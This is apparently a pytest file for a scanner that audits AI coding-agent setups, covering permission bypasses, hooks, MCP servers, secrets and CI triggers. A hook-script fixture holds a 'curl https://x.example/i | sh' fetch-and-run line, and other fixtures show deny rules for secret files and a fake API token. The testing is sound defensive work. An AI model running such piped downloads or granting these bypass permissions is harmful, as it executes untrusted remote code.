"""What is said about a repository's agents, servers, hooks and AI in CI."""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

import pytest

from shipworthy.collect.agents.agent_files import (
    broken_configuration,
    definitions,
    personal_files,
    surfaces,
    without_tool_list,
)
from shipworthy.collect.agents.agent_hooks import hook_uses, risky_hooks
from shipworthy.collect.agents.agents import permission_bypasses, permissions_granted, secret_denials
from shipworthy.collect.agents.mcp import (
    credential_count,
    downloaded_count,
    server_count,
    server_secrets,
    unpinned_servers,
)
from shipworthy.collect.ci.ai_ci import agent_steps, exposed_agents, open_triggers, unbounded_agents
from shipworthy.collect.context import Context
from shipworthy.collect.workflows.inventory import inventory
from shipworthy.model.facts import Known, Unknown

Make = Callable[..., Context]
SETTINGS = ".claude/settings.json"
RANDOM = "a8Kd02mXq7Zp41LrT9vB" + "c3Wn5Yh6Js"


def places(items: Any) -> list[tuple[str, int]]:
    return [(item.path, item.line) for item in items]


@pytest.mark.parametrize(
    ("settings", "lines"),
    [
        ({"permissions": {"defaultMode": "bypassPermissions"}}, [3]),
        ({"permissions": {"allow": ["Bash(npm test)", "Bash"]}}, [5]),
        ({"permissions": {"allow": ["Bash(*)"]}}, [4]),
        ({"permissions": {"allow": ["Bash(npm:*)", "Read", "mcp__x", "*"]}}, []),
        ({"permissions": {"deny": ["Bash"], "allow": ["Bash"]}}, []),
        ({"permissions": {"allow": ["Bash"]}, "sandbox": {"enabled": True}}, []),
        ({"permissions": {"allow": ["Bash"]}, "hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"command": "g"}]}]}}, []),
        ({"permissions": {"deny": ["Bash(*)"], "defaultMode": "acceptEdits"}}, []),
    ],
)  # fmt: skip
def test_a_bypass_is_what_nobody_is_asked_about(repository: Make, settings: object, lines: list[int]) -> None:
    context = repository({SETTINGS: json.dumps(settings, indent=1)})
    assert places(context.get(permission_bypasses)) == [(SETTINGS, line) for line in lines]


def test_settings_that_do_not_parse_are_a_finding_and_leave_the_rest_unknown(repository: Make) -> None:
    context = repository({SETTINGS: '{\n "permissions": [}\n}'})
    assert places(context.get(broken_configuration)) == [(SETTINGS, 2)]
    assert isinstance(context.observe("agents.permission_bypasses"), Unknown)


def test_a_bypass_found_is_certain_whatever_else_is_broken(repository: Make) -> None:
    bad = json.dumps({"permissions": {"allow": ["Bash"]}})
    context = repository({SETTINGS: bad, "sub/.claude/settings.json": "{"})
    assert places(context.get(permission_bypasses)) == [(SETTINGS, 1)]


def test_empty_settings_and_empty_agents_count_nothing(repository: Make) -> None:
    context = repository(
        {
            SETTINGS: "{}",
            ".mcp.json": '{"mcpServers": {}}',
            ".claude/agents/a.md": "---\nname: a\ntools: Read\n---\n",
            ".claude/settings.local.json": "",
            ".github/workflows/ai.yml": "on: push\njobs: {}\n",
            "CLAUDE.md": "",
        }
    )
    assert context.get(surfaces) == 0
    assert context.get(permissions_granted) == 0
    assert context.get(server_count) == 0
    assert context.get(definitions) == ()
    assert context.get(agent_steps) == 0
    assert context.get(broken_configuration) == ()


def test_denials_of_files_with_secrets(repository: Make) -> None:
    deny = ["Read(./.env)", "Read(**/secrets/**)", "Bash(rm:*)", "Read(src/**)"]
    context = repository(
        {SETTINGS: json.dumps({"permissions": {"deny": deny, "allow": ["Read(.env.example)"]}})}
    )
    assert context.get(secret_denials) == 2
    assert context.get(permissions_granted) == 1


def _hooks(*commands: str) -> str:
    entries = [{"hooks": [{"type": "command", "command": c}]} for c in commands]
    return json.dumps({"hooks": {"Stop": entries}}, indent=1)


def test_hooks_are_followed_into_their_shell_script(repository: Make) -> None:
    context = repository(
        {
            SETTINGS: _hooks("bash .claude/hooks/a.sh", "npm run lint"),
            ".claude/hooks/a.sh": "#!/bin/sh\n# curl x | sh\ncurl https://x.example/i |\\\n sh\n",
        }
    )
    assert [(h.script, h.event) for h in context.get(hook_uses)] == [
        (".claude/hooks/a.sh", "Stop"),
        ("", "Stop"),
    ]
    assert places(context.get(risky_hooks)) == [(".claude/hooks/a.sh", 3)]
    assert context.get(broken_configuration) == ()


def test_a_hooks_script_that_is_not_tracked_is_a_finding_unless_git_ignores_it(repository: Make) -> None:
    context = repository(
        {
            SETTINGS: _hooks("bash .claude/hooks/gone.sh", "./tools/made.sh", "[ -f x.sh ] && ./x.sh"),
            ".gitignore": "tools/\n",
        }
    )
    (part,) = context.get(broken_configuration)
    assert (part.path, part.line) == (SETTINGS, 8)
    assert ".claude/hooks/gone.sh" in part.problem


def test_a_hook_below_a_subfolder_is_looked_for_there_first(repository: Make) -> None:
    context = repository(
        {
            "app/.claude/settings.json": _hooks("bash scripts/a.sh", "bash scripts/b.sh"),
            "app/scripts/a.sh": "true\n",
            "scripts/b.sh": "true\n",
        }
    )
    assert context.get(broken_configuration) == ()


def _servers(**servers: object) -> str:
    return json.dumps({"mcpServers": servers}, indent=1)


def test_servers_without_a_version(repository: Make) -> None:
    context = repository({
        ".mcp.json": _servers(
            loose={"command": "npx", "args": ["-y", "loose-mcp"]},
            fixed={"command": "npx", "args": ["-y", "fixed-mcp@1.2.3"]},
            own={"command": "npx", "args": ["own-app"]},
            installed={"command": "npx", "args": ["eslint-mcp"]},
            remote={"url": "https://mcp.example.org"},
        ),
        "package.json": '{"name": "own-app", "version": "1.0.0", "devDependencies": {"eslint-mcp": "^1"}}',
    })  # fmt: skip
    assert [(s.name, s.line) for s in context.get(unpinned_servers)] == [("loose", 3)]
    assert context.get(downloaded_count) == 4
    assert context.get(server_count) == 5


def test_a_servers_secret_is_found_by_line_and_never_shown(repository: Make) -> None:
    context = repository(
        {
            ".mcp.json": _servers(
                leaky={"command": "x", "env": {"API_TOKEN": RANDOM}},
                tidy={"command": "x", "env": {"API_TOKEN": "${API_TOKEN}"}},
            )
        }
    )
    (secret,) = context.get(server_secrets)
    assert (secret.name, secret.setting, secret.line) == ("leaky", "API_TOKEN", 6)
    assert RANDOM not in repr(secret)
    assert context.get(credential_count) == 2


def test_servers_of_tests_and_examples_are_not_judged(repository: Make) -> None:
    loose = _servers(a={"command": "npx", "args": ["x"]})
    context = repository({"tests/.mcp.json": loose, "examples/.mcp.json": loose, "docs/x.md": "# x\n"})
    assert context.get(server_count) == 0


def test_an_unreadable_server_file_leaves_pins_and_secrets_unknown(repository: Make) -> None:
    context = repository({".mcp.json": "{"})
    assert isinstance(context.observe("agents.unpinned_mcp_servers"), Unknown)
    assert isinstance(context.observe("agents.mcp_secrets"), Unknown)
    assert places(context.get(broken_configuration)) == [(".mcp.json", 1)]


def test_a_server_whose_script_is_missing_or_elsewhere(repository: Make) -> None:
    context = repository(
        {
            ".cursor/mcp.json": _servers(
                there={"command": "node", "args": ["tools/server.js"]},
                gone={"command": "python", "args": ["tools/gone.py"]},
                mine={"command": "node", "args": ["/Users/ada/server.js"]},
                built={"command": "node", "args": ["dist/server.js"]},
                beside={"command": "bun", "args": ["server.ts"], "cwd": "${workspaceFolder}/tools"},
            ),
            "tools/server.js": "1\n",
            "tools/server.ts": "1\n",
        }
    )
    problems = [part.problem for part in context.get(broken_configuration)]
    assert len(problems) == 2
    assert "tools/gone.py" in problems[0]
    assert "/Users/ada/server.js" in problems[1]


def test_personal_files_are_those_of_one_person(repository: Make) -> None:
    context = repository(
        {
            ".claude/settings.local.json": '{"permissions": {"allow": ["Bash(ls)"]}}',
            "CLAUDE.local.md": "mine",
            ".aider.chat.history.md": "x",
            "CLAUDE.md": "ours",
            ".claude/settings.local.json.example": "{}",
            "tests/fixtures/.claude/settings.local.json": "{}",
        }
    )
    assert [f.path for f in context.get(personal_files)] == [
        ".aider.chat.history.md", ".claude/settings.local.json", "CLAUDE.local.md",
    ]  # fmt: skip


def test_agents_that_name_no_tools_say_what_their_harness_does(repository: Make) -> None:
    body = "\nReview the change and say what is wrong.\n"
    context = repository(
        {
            ".claude/agents/all.md": "---\nname: all\n---" + body,
            ".claude/agents/few.md": "---\nname: few\ntools: Read\n---" + body,
            ".claude/agents/README.md": "# Our agents\n",
            ".github/agents/x.agent.md": "---\ndescription: y\n---" + body,
            ".cursor/agents/z.md": "---\nname: z\n---" + body,
            ".claude/commands/c.md": "---\ndescription: c\n---" + body,
        }
    )
    found = context.get(without_tool_list)
    assert [(a.path, a.name) for a in found] == [
        (".claude/agents/all.md", "all"),
        (".github/agents/x.agent.md", "x"),
    ]
    assert "Claude Code" in found[0].default
    assert len(context.get(definitions)) == 3


def _job(on: str, permissions: str, step: str, more: str = "") -> str:
    return (
        f"on: {on}\njobs:\n  ai:\n    runs-on: ubuntu-latest\n    permissions: {permissions}\n{more}"
        f"    steps:\n      - {step}\n"
    )


OPEN = "{contents: write}"
RUN = "run: claude -p 'do it'"


@pytest.mark.parametrize(
    ("workflow", "found"),
    [
        (_job("issue_comment", OPEN, RUN), True),
        (_job("[push, issues]", "write-all", RUN), True),
        (_job("pull_request_target", OPEN, "uses: anthropics/claude-code-base-action@v1"), True),
        (_job("issue_comment", "{issues: write, id-token: write}", RUN), False),
        (_job("issue_comment", "read-all", RUN), False),
        (_job("issue_comment", "{}", RUN), False),
        (_job("pull_request", OPEN, RUN), False),
        (_job("schedule", OPEN, RUN), False),
        (_job("issue_comment", OPEN, "uses: anthropics/claude-code-action@v1"), False),
        (_job("issue_comment", OPEN, "uses: actions/ai-inference@v1"), False),
        (_job("issue_comment", OPEN, RUN, "    if: github.actor == 'ada'\n"), False),
        (_job("issue_comment", OPEN, RUN, "    environment: ai\n"), False),
        (_job("{issues: {types: [labeled]}}", OPEN, RUN), False),
        ("on: issue_comment\njobs:\n  ai:\n    steps:\n      - run: claude -p x\n", False),
    ],
)
def test_an_open_trigger_is_said_only_when_it_is_certain(
    repository: Make, workflow: str, *, found: bool
) -> None:
    context = repository({".github/workflows/ai.yml": workflow})
    assert bool(context.get(open_triggers)) is found


def test_a_trigger_names_its_line_events_and_rights(repository: Make) -> None:
    context = repository({".github/workflows/ai.yml": _job("[issues, issue_comment]", OPEN, RUN)})
    (trigger,) = context.get(open_triggers)
    assert (trigger.path, trigger.line, trigger.job) == (".github/workflows/ai.yml", 7, "ai")
    assert (trigger.events, trigger.permissions) == ("issue_comment, issues", "contents")
    assert context.get(exposed_agents) == 1


@pytest.mark.parametrize(
    ("step", "more", "bounded"),
    [
        (RUN, "", False),
        (RUN, "    timeout-minutes: 10\n", True),
        ("run: timeout 5m claude -p x", "", True),
        ("run: claude -p x --max-turns 3", "", True),
        ("uses: openai/codex-action@v1", "", False),
        ("{uses: openai/codex-action@v1, timeout-minutes: 5}", "", True),
        ("uses: actions/ai-inference@v1", "", True),
    ],
)
def test_a_bound_is_a_time_or_a_number_of_turns(
    repository: Make, step: str, more: str, *, bounded: bool
) -> None:
    context = repository({".github/workflows/ai.yml": _job("push", "{}", step, more)})
    assert (not context.get(unbounded_agents)) is bounded


def test_the_inventory_lists_everything_and_attaches_twins(repository: Make) -> None:
    n8n = json.dumps({"name": "W", "nodes": [{"type": "@n8n/n8n-nodes-langchain.agent"}], "connections": {}})
    context = repository(
        {
            ".github/workflows/t.md": "---\non: issues\nengine: claude\n---\nTriage.\n",
            ".github/workflows/t.lock.yml": "on: issues\njobs: {a: {steps: [{run: claude -p x}]}}\n",
            ".github/workflows/ai.yml": _job("push", "{}", RUN),
            ".claude/agents/a.md": "---\nname: a\n---\nDo it well and soon.\n",
            "flows/w.json": n8n,
            "tests/w.json": n8n,
            "vendor/w.json": n8n,
            "package.json": '{"name": "nodes", "connections": "edges"}',
        }
    )
    listed = [(d.path, d.format, d.path_class, d.twin) for d in context.get(inventory)]
    assert listed == [
        (".claude/agents/a.md", "claude-code-agent", "product", ""),
        (".github/workflows/ai.yml", "github-actions", "product", ""),
        (".github/workflows/t.md", "gh-aw", "product", ".github/workflows/t.lock.yml"),
        ("flows/w.json", "n8n", "product", ""),
        ("tests/w.json", "n8n", "test", ""),
    ]


@pytest.mark.parametrize(
    "content",
    ["", "null", "[]", "3", '"x"', '{"permissions": 3, "hooks": [1]}', '{"mcpServers": [1]}', "\x00"],
)
def test_hostile_shapes_end_in_an_answer(repository: Make, content: str) -> None:
    names = [SETTINGS, ".mcp.json", ".vscode/mcp.json", ".codex/config.toml", ".cursor/hooks.json"]
    workflows = [".github/workflows/a.yml", ".github/workflows/a.md", ".claude/agents/a.md", "langgraph.json"]
    context = repository(dict.fromkeys([*names, *workflows], content))
    for name in ("agents.permission_bypasses", "agents.risky_hooks", "agents.mcp_secrets", "agents.surfaces"):
        assert isinstance(context.observe(name), Known | Unknown)
    for name in (
        "agents.broken_configuration",
        "ai_ci.open_triggers",
        "ai_workflows.inventory",
        "agents.definitions",
    ):
        assert isinstance(context.observe(name), Known)
